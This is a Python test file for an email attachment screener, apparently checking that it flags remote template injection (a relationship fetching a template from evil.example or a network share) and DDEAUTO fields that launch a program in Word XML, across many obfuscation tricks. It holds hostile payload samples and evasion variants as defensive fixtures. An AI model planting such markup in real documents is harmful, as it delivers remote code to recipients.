"""What acts in Office documents however their XML is written: relationships that fetch, fields that start a program."""

import pytest
from fakes.evasions.containers import document, zipped
from fakes.odd_mail import attached

from screener.anatomy.active import Active
from screener.anatomy.message import Anatomy

RELATION = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)
FIELD = '<w:document xmlns:w="x"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{}</w:p></w:body></w:document>'
RUN = "<w:r><w:instrText>{}</w:instrText></w:r>"
DDE = FIELD.format(RUN.format("DDEAUTO c:\\\\x.exe"))


def acts(octets: bytes, name: str = "a.docx") -> set[Active]:
    return {kind for one in Anatomy(attached(octets, name)).attachments for kind in one.active_content}


@pytest.mark.parametrize(
    "markup",
    [
        RELATION.replace("https:", "&#104;ttps:"),
        RELATION.replace('attachedTemplate"', 'attached&#84;emplate"'),
        RELATION.replace('"External"', '"Ext&#101;rnal"'),
        RELATION.replace('"', "'"),
        RELATION.replace('Id="r1"', 'Id="r>1"'),
        RELATION.replace('Id="r1"', f'Id="{"r" * 5_000}"'),
        RELATION.replace("<Relationship ", "<p:Relationship\n"),
        RELATION.replace('Target="', 'Target\n=\n"'),
    ],
)
@pytest.mark.parametrize("codec", ["utf-8", "utf-16"])
def test_a_template_from_elsewhere(markup: str, codec: str) -> None:
    assert Active.TEMPLATE in acts(document(("word/_rels/settings.xml.rels", markup.encode(codec))))


@pytest.mark.parametrize("start", ["file:////evil.example/", "\\\\evil.example\\", "//evil.example/", "file://evil.example/"])
def test_a_template_from_a_share(start: str) -> None:
    markup = RELATION.replace("https://evil.example/", start)
    assert acts(document(("word/_rels/settings.xml.rels", markup.encode()))) == {Active.SHARE}


@pytest.mark.parametrize("start", ["file:///C:/Templates/", "C:\\Templates\\", "Templates/"])
def test_a_template_of_ones_own(start: str) -> None:
    markup = RELATION.replace("https://evil.example/", start)
    assert not acts(document(("word/_rels/settings.xml.rels", markup.encode())))


def test_behind_many_relationships() -> None:
    many = [(f"word/_rels/x{number}.xml.rels", b"<Relationships/>") for number in range(300)]
    assert Active.TEMPLATE in acts(document(*many, ("word/_rels/settings.xml.rels", RELATION.encode())))


@pytest.mark.parametrize(
    "markup",
    [
        DDE,
        FIELD.format(RUN.format("DD") + RUN.format("EAUTO c:\\\\x.exe")),
        FIELD.format(RUN.format("&#68;DEAUTO c:\\\\x.exe")),
        FIELD.format(RUN.format("DD<!-- -->E c:\\\\x.exe")),
        FIELD.format(RUN.format("<![CDATA[DDE]]> c:\\\\x.exe")),
        FIELD.format(RUN.format(" QUOTE 68 68 69 65 85 84 79 ")),
        FIELD.format("<w:fldSimple w:instr='D&#68;E x'/>"),
        DDE.replace("w:", "q:"),
    ],
)
@pytest.mark.parametrize("codec", ["utf-8", "utf-16"])
@pytest.mark.parametrize("name", ["word/document.xml", "word/footer1.xml", "word/endnotes.xml", "word/x.png"])
def test_a_field_that_starts_a_program(markup: str, codec: str, name: str) -> None:
    octets = zipped(("[Content_Types].xml", b"<Types/>"), ("word/other.xml", b"<x/>"), (name, markup.encode(codec)))
    assert Active.DDE in acts(octets)


def test_other_fields_start_none() -> None:
    fields = RUN.format(" PAGE ") + '<w:r><w:fldChar w:fldCharType="end"/></w:r>' + RUN.format(" DATE \\@ DDMMYY ")
    fields += "<w:r><w:t>about DDE</w:t></w:r>"
    assert not acts(document(("word/footer1.xml", FIELD.format(fields).encode())))
